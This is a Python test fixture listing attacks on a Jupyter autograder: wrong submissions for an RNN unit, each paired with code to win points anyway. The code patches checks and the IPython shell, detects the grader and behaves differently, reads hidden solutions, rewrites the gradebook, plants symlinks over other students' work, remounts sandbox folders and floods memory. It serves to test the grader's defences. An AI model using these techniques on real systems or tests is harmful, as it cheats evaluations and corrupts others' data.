"""Attacks on the grader: wrong solutions of unit 02 plus code that tries to win points anyway.

Each attack is graded as one student's submission by `autograder grade` (tests/test_batch_grading.py)
and must earn zero autograded points. Its solution cells are wrong (the release's stubs unless the
attack replaces them), so any point it earns was won by the attack, not by the code. `flags` are
words the grader's reasons for manual review must contain; `refused` attacks break nbgrader's own
metadata checks, so nbgrader refuses the notebook (status "error: nbgrader could not grade ...").

Tokens in the code, filled in by the test: __COURSE__ (the scratch course the batch grades),
__REPO__ (this repository), __PORT__ (a TCP server on 127.0.0.1 that counts connections),
__VICTIM__ (another student of the batch), __MARKER__ (a random name for a file that must not appear).
Attacks that probe the sandbox PRINT what they saw, as one line `EVIDENCE <json>` in their own
cell's output (nothing the kernel writes to its folder reaches the autograded folder); `evidence_in`
reads it back from the autograded notebook.

NEW_ATTACKS are the ones that worked against the grader before its second hardening (by a student
who had read the grader's source); tests/test_attack_corpus.py shows each working against stock
nbgrader (its live control) and failing against `autograder grade`.
"""
import json
from dataclasses import dataclass, field
from textwrap import dedent

UNIT = "02_hidden_state"


@dataclass(frozen=True)
class Attack:
    what: str
    payload: str = ""          # a code cell added right after the setup cell
    solutions: dict = field(default_factory=dict)  # grade id -> source of that solution cell (still wrong)
    delete: tuple = ()         # grade ids of cells the student deleted
    strip: dict = field(default_factory=dict)      # grade id -> new source; the cell's nbgrader metadata removed
    metadata: dict = field(default_factory=dict)   # grade id -> nbgrader metadata keys the student changed
    cells: tuple = ()          # extra cells (source, nbgrader metadata or None) at the end
    flags: tuple = ()          # words the result's review flags must contain
    refused: bool = False      # nbgrader refuses the notebook (its status says so); zero all the same
    files: dict = field(default_factory=dict)      # extra files of the submission: name -> text (tokens filled)
    earns: float = 0           # points its wrong solutions earn honestly (zeros of the right shape), attack or not


def code(text):
    return dedent(text).strip() + "\n"


# A stand-in for every check, module and answer: its attributes and calls return more of it.
PASS_EVERYTHING = code('''
    class PassEverything:
        """Any attribute, call, item or comparison gives another PassEverything, or True."""
        def __getattr__(self, name):
            return PassEverything()
        def __iter__(self):
            return iter([PassEverything(), PassEverything()])
        def __getitem__(self, key):
            return PassEverything()
        def __call__(self, *args, **kwargs):
            return PassEverything()
        def __eq__(self, other):
            return True
        def __bool__(self):
            return True
''')

# Solutions that are wrong (zeros of the wrong size) but return normally.
WRONG_BUT_RETURNS = {
    "rnn_step_forward": code('''
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            return np.zeros(1), None
    '''),
    "rnn_forward": code('''
        def rnn_forward(x, h0, Wx, Wh, b):
            return np.zeros(1), []
    '''),
    "softmax": code('''
        def softmax(z):
            return np.zeros(1)
    '''),
    "count_rnn_parameters": code('''
        def count_rnn_parameters(input_dim, hidden_dim, output_dim):
            return -1
    '''),
}

CHECKS_PATCH = code('''
    import rnncourse.checks
    for name in ("check_close", "check_shape", "check_returns", "check_equal", "check_type", "check_finite", "call"):
        setattr(rnncourse.checks, name, lambda *args, **kwargs: None)
''')

ATTACKS = {
    "run_cell": Attack(
        "replaces the shell's run_cell so that every later cell, test cells included, runs `pass`",
        code('''
            ip = get_ipython()
            original_run_cell = ip.run_cell
            def run_cell(raw_cell, *args, **kwargs):
                return original_run_cell("pass", *args, **kwargs)
            ip.run_cell = run_cell
        '''),
        flags=("IPython shell", "changes how cells run")),
    "ast_transformer": Attack(
        "adds an AST transformer that deletes every assert and raise before a cell runs",
        code('''
            import ast
            class NoChecks(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
                def visit_Raise(self, node):
                    return ast.Pass()
            get_ipython().ast_transformers.append(NoChecks())
        '''),
        flags=("changes how cells run",)),
    "input_transformer": Attack(
        "adds an input transformer that comments out asserts and raises in the text of every cell",
        code('''
            def neuter(lines):
                return [line.replace("raise ", "pass  # ").replace("assert ", "pass  # ") for line in lines]
            get_ipython().input_transformers_cleanup.append(neuter)
        '''),
        flags=("changes how cells run",)),
    "numpy_patched": Attack(
        "makes NumPy's comparisons always succeed",
        code('''
            import numpy as np
            import numpy.testing
            np.allclose = lambda *args, **kwargs: True
            np.array_equal = lambda *args, **kwargs: True
            np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
            np.testing.assert_allclose = lambda *args, **kwargs: None
            np.testing.assert_array_equal = lambda *args, **kwargs: None
        '''),
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy",)),
    "checks_patched": Attack(
        "turns every function of rnncourse.checks into a no-op",
        code('''
            import rnncourse.checks
            for name in dir(rnncourse.checks):
                if name.startswith("check") or name == "call":
                    setattr(rnncourse.checks, name, lambda *args, **kwargs: None)
            checks.check_close = lambda *args, **kwargs: None
        '''),
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy or the course's checks",)),
    "magic_objects": Attack(
        "returns objects whose ==, bool() and NumPy conversions always succeed",
        code('''
            import numpy as np
            class Anything(int):
                """Equal to everything, true, a pair, and any array you compare it with."""
                shape = property(lambda self: ())
                def __eq__(self, other):
                    return True
                def __ne__(self, other):
                    return False
                def __bool__(self):
                    return True
                def __hash__(self):
                    return 0
                def __len__(self):
                    return 2
                def __iter__(self):
                    return iter([Anything(), Anything()])
                def __getitem__(self, key):
                    return Anything()
                def __array__(self, dtype=None, copy=None):
                    return np.zeros(())
                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                    return True
                def __array_function__(self, func, types, args, kwargs):
                    return True
            class Pair(tuple):
                """A tuple that claims to be the right answer."""
                def __eq__(self, other):
                    return True
        '''),
        solutions={
            "rnn_step_forward": "def rnn_step_forward(x, h_prev, Wx, Wh, b):\n    return Pair((Anything(), Anything()))\n",
            "rnn_forward": "def rnn_forward(x, h0, Wx, Wh, b):\n    return Anything()\n",
            "softmax": "def softmax(z):\n    return Anything()\n",
            "count_rnn_parameters": "def count_rnn_parameters(input_dim, hidden_dim, output_dim):\n    return Anything()\n",
        },
        flags=("comparison or NumPy hooks",)),
    "exception_display": Attack(
        "hides every error: sys.excepthook, showtraceback, _showtraceback and a custom exception handler",
        code('''
            import sys
            ip = get_ipython()
            sys.excepthook = lambda *args: None
            ip.showtraceback = lambda *args, **kwargs: None
            ip._showtraceback = lambda *args, **kwargs: None
            ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
        '''),
        flags=("changes how cells run or how errors show",)),
    "early_exit": Attack(
        "leaves early: sys.exit, raise SystemExit, then os._exit in the solution cells",
        solutions={
            "rnn_step_forward": "import sys\nsys.exit(0)\n",
            "rnn_forward": "raise SystemExit(0)\n",
            "softmax": "import os\nos._exit(0)\n",
        },
        flags=("exits the kernel",)),
    "detects_grading": Attack(
        "behaves differently under the grader: detects it from the environment or the call stack",
        code('''
            import os, sys
            def under_grader():
                try:
                    names = [sys._getframe(depth).f_globals.get("__name__") for depth in range(1, 3)]
                except ValueError:
                    names = []
                return (os.environ.get("NBGRADER_EXECUTION") is not None or "autograder.agent" in sys.modules
                        or "autograder.agent" in names)
            if under_grader():
                import rnncourse.checks
                for name in ("check_close", "check_shape", "check_returns", "check_equal", "check_type", "check_finite"):
                    setattr(rnncourse.checks, name, lambda *args, **kwargs: None)
                print("grading detected")
        '''),
        solutions={
            "rnn_step_forward": code('''
                def rnn_step_forward(x, h_prev, Wx, Wh, b):
                    if under_grader():  # the checks are patched: any answer will do
                        return np.zeros(1), None
                    raise NotImplementedError()
            '''),
            "count_rnn_parameters": code('''
                def count_rnn_parameters(input_dim, hidden_dim, output_dim):
                    if under_grader():
                        return 1
                    raise NotImplementedError()
            '''),
        },
        flags=("looks at the environment", "reaches into the interpreter")),
    "reads_instructor_files": Attack(
        "looks for the instructor's notebook (solutions, hidden tests) and the gradebook to copy answers",
        code('''
            import glob, json, os, sqlite3
            targets = ["__COURSE__/source/02_hidden_state/02_hidden_state.ipynb",
                       "../../../source/02_hidden_state/02_hidden_state.ipynb",
                       "__COURSE__/release/02_hidden_state/02_hidden_state.ipynb",
                       "__COURSE__/gradebook.db", "../../../gradebook.db",
                       "__COURSE__/submitted/solution/02_hidden_state/02_hidden_state.ipynb",
                       "__COURSE__/autograded/solution/02_hidden_state/02_hidden_state.ipynb",
                       "__COURSE__/nbgrader_config.py",
                       "__REPO__/source/02_hidden_state/02_hidden_state.ipynb",
                       "__REPO__/gradebook.db"]
            evidence = {"cwd": os.getcwd(), "read": {}}
            for path in targets:
                try:
                    with open(path, "rb") as f:
                        data = f.read()
                    evidence["read"][path] = len(data)
                    if path.endswith(".ipynb"):  # copy the instructor's solutions
                        for cell in json.loads(data)["cells"]:
                            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
                                exec("".join(cell["source"]), globals())
                except Exception as error:
                    evidence["read"][path] = type(error).__name__
            try:
                db = sqlite3.connect("file:__COURSE__/gradebook.db?mode=ro", uri=True)
                evidence["gradebook_cells"] = db.execute("select source from source_cell").fetchall()
            except Exception as error:
                evidence["gradebook_cells"] = type(error).__name__
            # glob("missing/**") answers ["missing/"]: keep only what exists.
            evidence["visible"] = sorted(p for p in glob.glob("__COURSE__/**", recursive=True) if os.path.exists(p))
            evidence["visible_repo"] = sorted(glob.glob("__REPO__/*"))
            print("EVIDENCE " + json.dumps(evidence))
        '''),
        flags=("looks for the course's files",)),
    "writes_outside": Attack(
        "writes to the gradebook, the instructor's notebook, other students' folders and the course's code",
        code('''
            import json, os, sqlite3
            evidence = {"append": {}, "create": {}, "open_for_writing": {}}
            # Files of the scratch course: really try to change them ("r+": only files that exist; a new
            # file of that name would land in the sandbox's own /tmp, which the test checks separately).
            for path in ["__COURSE__/gradebook.db", "__COURSE__/source/02_hidden_state/02_hidden_state.ipynb",
                         "__COURSE__/nbgrader_config.py", "../../../gradebook.db",
                         "__COURSE__/submitted/solution/02_hidden_state/02_hidden_state.ipynb",
                         "__COURSE__/autograded/solution/02_hidden_state/02_hidden_state.ipynb",
                         "__COURSE__/.autograder/02_hidden_state.json"]:
                try:
                    with open(path, "r+b") as f:
                        f.seek(0, 2)
                        f.write(b"written by a student")
                    evidence["append"][path] = "WROTE"
                except Exception as error:
                    evidence["append"][path] = type(error).__name__
            for path in ["__COURSE__/source/02_hidden_state/pwned.py", "__COURSE__/pwned.txt",
                         "__REPO__/rnncourse/pwned.py", "__REPO__/pwned.txt"]:
                try:
                    with open(path, "x") as f:
                        f.write("written by a student")
                    evidence["create"][path] = "WROTE"
                except Exception as error:
                    evidence["create"][path] = type(error).__name__
            # The repository's code and the venv: only open them for writing (changes nothing even if allowed).
            import numpy, rnncourse.checks
            for path in ["__REPO__/rnncourse/checks.py", "__REPO__/gradebook.db", rnncourse.checks.__file__,
                         numpy.__file__]:
                try:
                    with open(path, "r+b"):
                        pass
                    evidence["open_for_writing"][path] = "OPENED"
                except Exception as error:
                    evidence["open_for_writing"][path] = type(error).__name__
            try:
                db = sqlite3.connect("__COURSE__/gradebook.db")
                db.execute("update grade set auto_score = 100")
                db.commit()
                evidence["sql"] = "WROTE"
            except Exception as error:
                evidence["sql"] = type(error).__name__
            print("EVIDENCE " + json.dumps(evidence))
        '''),
        flags=("looks for the course's files",)),
    "network": Attack(
        "connects to a server on the grading machine's 127.0.0.1 (to fetch answers or report results)",
        code('''
            import json, socket
            evidence = {}
            for host in ["127.0.0.1", "localhost"]:
                try:
                    with socket.create_connection((host, __PORT__), timeout=3) as s:
                        s.sendall(b"hello from a student")
                    evidence[host] = "CONNECTED"
                except Exception as error:
                    evidence[host] = type(error).__name__
            print("EVIDENCE " + json.dumps(evidence))
        '''),
        flags=("opens sockets",)),
    # The referee must run the instructor's setup cell even when the student removed it; otherwise
    # the tests would find `checks`, `np` and `oracles` in the student's kernel.
    "deletes_setup_cell": Attack(
        "deletes the locked setup cell and defines its own checks, oracles and np that accept anything",
        PASS_EVERYTHING + "checks = oracles = np = PassEverything()\n",
        solutions={name: f"{name} = PassEverything()\n" for name in
                   ("rnn_step_forward", "rnn_forward", "softmax", "count_rnn_parameters")},
        delete=("setup",),
        flags=("comparison or NumPy hooks", "deleted instructor cells or removed their nbgrader metadata")),
    "unlocks_setup_cell": Attack(
        "removes the setup cell's nbgrader metadata (it becomes a student cell) and rewrites it",
        solutions={name: f"{name} = PassEverything()\n" for name in
                   ("rnn_step_forward", "rnn_forward", "softmax", "count_rnn_parameters")},
        strip={"setup": PASS_EVERYTHING + "checks = oracles = np = PassEverything()\n"},
        flags=("comparison or NumPy hooks", "deleted instructor cells or removed their nbgrader metadata")),
    # Test cells define helpers (random_step_inputs) that later test cells use: a student who
    # removes such a cell must not get to supply the helper (zeros in, zeros out).
    "replaces_test_helpers": Attack(
        "turns the test cells that define random_step_inputs/random_sequence_inputs into its own cells "
        "that make all inputs zero, and returns zeros",
        solutions={
            "rnn_step_forward": code('''
                def rnn_step_forward(x, h_prev, Wx, Wh, b):
                    return np.zeros((x.shape[0], Wh.shape[0])), None
            '''),
            "rnn_forward": code('''
                def rnn_forward(x, h0, Wx, Wh, b):
                    return np.zeros(x.shape[:2] + (Wh.shape[0],)), []
            '''),
        },
        strip={
            "test_rnn_step_forward_shape": code('''
                def random_step_inputs(rng, N, D, H, scale=0.5):
                    return np.zeros((N, D)), np.zeros((N, H)), np.zeros((D, H)), np.zeros((H, H)), np.zeros(H)
            '''),
            "test_rnn_forward_shape": code('''
                def random_sequence_inputs(rng, N, T, D, H, scale=0.5):
                    return (np.zeros((N, T, D)), np.zeros((N, H)), np.zeros((D, H)), np.zeros((H, H)),
                            np.zeros(H))
            '''),
        },
        flags=("removed their nbgrader metadata",),
        # The two shape tests it stripped are put back from source/ and graded: its zeros have the right
        # shapes, so they pass honestly (what the same functions earn in an untouched notebook).
        earns=2),
    "forged_setup_cell": Attack(
        "adds a copy of the setup cell's metadata to a cell at the end, so that nbgrader keeps that copy "
        "(it keeps the last of duplicated ids) and the instructor's setup would run only after the tests",
        CHECKS_PATCH,
        cells=(("# my notes\n", {"grade": False, "solution": False, "locked": True, "grade_id": "setup",
                                   "schema_version": 3}),),
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy or the course's checks",)),
    "forged_locked_cell": Attack(
        "adds a cell marked locked with an id of its own, hoping it runs beside the tests",
        cells=((CHECKS_PATCH, {"grade": False, "solution": False, "locked": True, "grade_id": "my_helpers",
                               "schema_version": 3}),),
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy or the course's checks",), refused=True),
    "setup_marked_solution": Attack(
        "marks the locked setup cell as a solution cell, so that it would run only in the student's kernel",
        CHECKS_PATCH,
        metadata={"setup": {"solution": True}},
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy or the course's checks",), refused=True),
    "test_marked_ungraded": Attack(
        "marks a test cell as not graded, so that it would run in the student's kernel",
        CHECKS_PATCH,
        metadata={"test_softmax_values": {"grade": False}},
        solutions=WRONG_BUT_RETURNS,
        flags=("patches NumPy or the course's checks",), refused=True),
}


def evidence_in(nb):
    """The `EVIDENCE <json>` line an attack printed, from the notebook's outputs; None if it printed none."""
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            text = output.get("text", "") if output.get("output_type") == "stream" else ""
            for line in (text if isinstance(text, str) else "".join(text)).splitlines():
                if line.startswith("EVIDENCE "):
                    return json.loads(line[len("EVIDENCE "):])
    return None


def _link_payload(links):
    """Code that leaves symbolic links in the kernel's folder: {name: target}. nbgrader writes and copies
    through them after the kernel stops (the autograded notebook, generate_feedback's copies)."""
    return code('''
        import os
        def leave_link(name, target):
            if os.path.lexists(name):
                os.remove(name)
            os.symlink(target, name)
    ''') + "".join(f"leave_link({name!r}, {target!r})\n" for name, target in links.items())


# KERNEL_SIDE_IMPORTS: the floods import IPython and comm with __import__, which the student's kernel has
# (with ipykernel); an import statement in a code string would count for tests/test_environment.py as an
# import of the test suite, which declares neither.
THE_NOTEBOOK = f"{UNIT}.ipynb"  # the name nbgrader writes the autograded notebook under, in the kernel's folder

NEW_ATTACKS = {
    # 1. The referee asks the agent for `shape` and, separately, for the array: two answers that disagree.
    "fake_array_shape": Attack(
        "returns objects whose `shape` is the expected (N, H) but which convert to an empty (0, N, H) array, "
        "which np.allclose broadcasts against anything of that shape; rewrites the grader's agent in the kernel "
        "(sys.modules['autograder.agent']) so that the referee gets that empty array",
        code('''
            import sys
            import numpy as np

            class LooksLikeAnArray:
                """Reports any shape you like; as an array it is empty, and broadcasts against that shape."""
                def __init__(self, *shape):
                    self.shape = tuple(int(n) for n in shape)
                def __array__(self, dtype=None, copy=None):
                    return np.zeros((0,) + self.shape, dtype=dtype)
                def __getitem__(self, key):
                    return LooksLikeAnArray(*np.empty(self.shape)[key].shape)

            agent = sys.modules.get("autograder.agent")
            if agent is not None:  # graded by the referee: answer its "array" request with the empty array
                perform_before = agent._perform
                def perform(request):
                    target = agent._objects.get(request.get("target"))
                    if request.get("op") == "array" and isinstance(target, LooksLikeAnArray):
                        return np.asarray(target)
                    return perform_before(request)
                agent._perform = perform
        '''),
        solutions={
            "rnn_step_forward": "def rnn_step_forward(x, h_prev, Wx, Wh, b):\n"
                                "    return LooksLikeAnArray(x.shape[0], Wh.shape[0]), None\n",
            "rnn_forward": "def rnn_forward(x, h0, Wx, Wh, b):\n"
                           "    return LooksLikeAnArray(x.shape[0], x.shape[1], Wh.shape[0]), []\n",
            "softmax": "def softmax(z):\n    return LooksLikeAnArray(*np.shape(z))\n",
        },
        flags=("replaces modules or builtins", "the grader's agent")),
    # 2. The hidden value test computes its expected answer from the inputs AFTER the call.
    "mutates_hidden_inputs": Attack(
        "recognises the hidden value test's inputs (their random seeds are in last year's leaked tests) and "
        "zeroes them in place, so that the expected value the test computes after the call is zero too; "
        "elsewhere a float32 answer for the visible inputs only",
        code('''
            import numpy as np
            # The inputs of the hidden value test of rnn_step_forward: seeds 100, 101, 102.
            HIDDEN_X = [np.random.default_rng(100 + seed).normal(size=(N, D))
                        for seed, (N, D) in enumerate([(1, 1), (6, 3), (4, 5)])]
            def looks_like_the_hidden_test(x):
                return any(x.shape == h.shape and np.array_equal(x, h) for h in HIDDEN_X)
        '''),
        solutions={"rnn_step_forward": code('''
            def rnn_step_forward(x, h_prev, Wx, Wh, b):
                if looks_like_the_hidden_test(x):
                    x[...] = 0
                    h_prev[...] = 0
                    b[...] = 0  # now tanh(x @ Wx + h_prev @ Wh + b) is 0 as well
                    return np.zeros((x.shape[0], Wh.shape[0])), None
                if x.shape == (3, 4):  # the visible tests' inputs: close enough in float32
                    return np.tanh((x @ Wx + h_prev @ Wh + b).astype(np.float32)).astype(np.float64), None
                return np.zeros(1), None
        ''')}),
    # 3. `python -m ipykernel_launcher` with the submission's folder as the working folder.
    "shadows_kernel_launcher": Attack(
        "hands in a file ipykernel_launcher.py: `python -m ipykernel_launcher` started in the submission's "
        "folder runs it instead of IPython's launcher; it patches the course's checks before any cell runs, "
        "and the notebook itself shows nothing suspicious",
        code('''
            import json
            import rnncourse.checks
            print("EVIDENCE " + json.dumps({"launcher_ran": rnncourse.checks.call.__doc__ is None}))
        '''),
        solutions=WRONG_BUT_RETURNS,
        files={"ipykernel_launcher.py": code('''
            """Runs instead of IPython's launcher when Python is started with `-m ipykernel_launcher` here."""
            import rnncourse.checks as checks

            def call(function, *args):
                return function(*args)

            for name in ("check_close", "check_shape", "check_returns", "check_equal", "check_type", "check_finite"):
                setattr(checks, name, lambda *args, **kwargs: None)
            checks.call = call

            from ipykernel import kernelapp
            kernelapp.launch_new_instance()
        ''')},
        flags=("extra files",)),
    # 4. Links in the kernel's folder that nbgrader follows after the kernel stopped.
    "link_overwrites_other_submission": Attack(
        "replaces the notebook in its folder by a link to another student's submitted notebook: nbgrader writes "
        "the autograded notebook through it",
        _link_payload({THE_NOTEBOOK: f"__COURSE__/submitted/__VICTIM__/{UNIT}/{UNIT}.ipynb"}),
        flags=("symbolic links",)),
    "link_overwrites_source": Attack(
        "replaces the notebook in its folder by a link to the instructor's source notebook",
        _link_payload({THE_NOTEBOOK: f"__COURSE__/source/{UNIT}/{UNIT}.ipynb"}),
        flags=("symbolic links",)),
    "link_writes_startup_file": Attack(
        "replaces the notebook in its folder by a link to a shell's start-up file (a decoy .bashrc in the course)",
        _link_payload({THE_NOTEBOOK: "__COURSE__/decoy-home/.bashrc"}),
        flags=("symbolic links",)),
    "links_leak_into_feedback": Attack(
        "leaves links to the source notebook (solutions, hidden tests), the gradebook and the configuration: "
        "nbgrader generate_feedback copies what they point at into the student's feedback",
        _link_payload({"answers.txt": f"__COURSE__/source/{UNIT}/{UNIT}.ipynb",
                       "grades.txt": "__COURSE__/gradebook.db", "config.txt": "__COURSE__/nbgrader_config.py"}),
        flags=("symbolic links",)),
    # 5. As root, bubblewrap's read-only binds are only a mount flag the sandbox can clear.
    "remounts_rnncourse": Attack(
        "remounts the read-only rnncourse bind read-write (mount -o remount, then the mount syscall) and "
        "creates a file in it",
        code('''
            import ctypes, json, os, subprocess
            import rnncourse
            folder = os.path.dirname(os.path.abspath(rnncourse.__file__))
            evidence = {"folder": folder}
            try:
                evidence["mount_command"] = subprocess.run(["mount", "-o", "remount,bind,rw", folder],
                                                           capture_output=True, text=True).returncode
            except Exception as error:
                evidence["mount_command"] = type(error).__name__
            libc = ctypes.CDLL(None, use_errno=True)
            MS_REMOUNT, MS_BIND = 32, 4096
            evidence["mount_syscall"] = libc.mount(None, folder.encode(), None, MS_REMOUNT | MS_BIND, None)
            try:
                with open(os.path.join(folder, "_attack_marker___MARKER__.txt"), "x") as f:
                    f.write("written by a student")
                evidence["marker"] = "WROTE"
            except Exception as error:
                evidence["marker"] = type(error).__name__
            print("EVIDENCE " + json.dumps(evidence))
        '''),
        flags=("mounts file systems",)),
    # 6. Memory that no process's RSS shows, and outputs that no per-cell cap sees.
    "memfd_hoard": Attack(
        "holds 1400 MB in anonymous memory files (os.memfd_create, written, never mapped): no RSS shows them",
        code('''
            import json, os, time
            held, block = [], b"x" * 2**20
            for i in range(7):
                fd = os.memfd_create(f"cache{i}")
                for _ in range(200):
                    os.write(fd, block)
                held.append(fd)
            print("EVIDENCE " + json.dumps({"memfd_mb": sum(os.fstat(fd).st_size for fd in held) // 2**20}))
            time.sleep(3)  # long enough for any watchdog to look
        '''),
        flags=("memory files",)),
    "many_files": Attack(
        "writes 1250 MB in files of 250 MB each, every one below the per-file cap, in its working folder",
        code('''
            import json
            written, block = 0, b"x" * 2**20
            try:
                for i in range(5):
                    with open(f"part{i}.bin", "wb") as f:
                        for _ in range(250):
                            f.write(block)
                            written += len(block)
            except OSError as error:
                print(type(error).__name__)
            print("EVIDENCE " + json.dumps({"written_mb": written // 2**20}))
        ''')),
    "giant_reply": Attack(
        "rewrites the agent so that its first answer to a call is 75 MB of JSON that decodes to 25 million "
        "nested lists (gigabytes) in the referee, outside the sandbox's memory limit",
        code('''
            import sys
            agent = sys.modules.get("autograder.agent")
            if agent is not None:
                GIANT = '{"ok": {"result": [' + "[]," * 25_000_000 + '[]], "args": [], "kwargs": {}}}'
                handle_before, sent = agent.handle, []
                def handle(request_text):
                    if '"call"' in request_text and not sent:  # wire encodes dicts as [key, value] lists
                        sent.append(True)
                        return GIANT
                    return handle_before(request_text)
                agent.handle = handle
        '''),
        flags=("the grader's agent",)),
    "display_update_flood": Attack(
        "shows a small output, then replaces it with 100 MB through update_display_data (not a cell's own output)",
        code('''
            ipython_display = __import__("IPython.display", fromlist=["display"])  # (see KERNEL_SIDE_IMPORTS)
            display, update_display = ipython_display.display, ipython_display.update_display
            display({"text/html": "<p>working</p>"}, raw=True, display_id="progress")
            update_display({"text/html": "<p>" + "x" * 100_000_000 + "</p>"}, raw=True, display_id="progress")
        ''')),
    "widget_flood": Attack(
        "opens a widget comm whose state is 100 MB: nbclient keeps widget state in the notebook's metadata",
        code('''
            create_comm = __import__("comm").create_comm  # (see KERNEL_SIDE_IMPORTS)
            state = {"_model_module": "flood", "_model_module_version": "1.0.0", "_model_name": "Flood",
                     "value": "x" * 100_000_000}
            create_comm(target_name="jupyter.widget", data={"state": state})
        ''')),
    # 8. What the hidden tests call the student's functions with, printed after the tests: feedback shows it.
    "records_hidden_inputs": Attack(
        "records the shapes its function is called with and prints them in a cell after the tests, so that the "
        "feedback shows the hidden tests' inputs",
        "calls_seen = []\n",
        solutions={"rnn_step_forward": code('''
            def rnn_step_forward(x, h_prev, Wx, Wh, b):
                calls_seen.append([list(np.shape(x)), list(np.shape(Wh))])
                return np.zeros((x.shape[0], Wh.shape[0])), None  # the right shape, wrong values
        ''')},
        cells=(("print('inputs the tests used:', calls_seen)\n", None),),
        earns=1),  # test_rnn_step_forward_shape: zeros of the right shape pass it, attack or not
}
# Shapes only the hidden tests use (test_rnn_step_forward_shape's hidden (N, D, H) = (7, 9, 2), (8, 1, 3)).
HIDDEN_ONLY_SHAPES = ("[7, 9], [2, 2]", "[8, 1], [3, 3]")

CORPUS = {**ATTACKS, **NEW_ATTACKS}
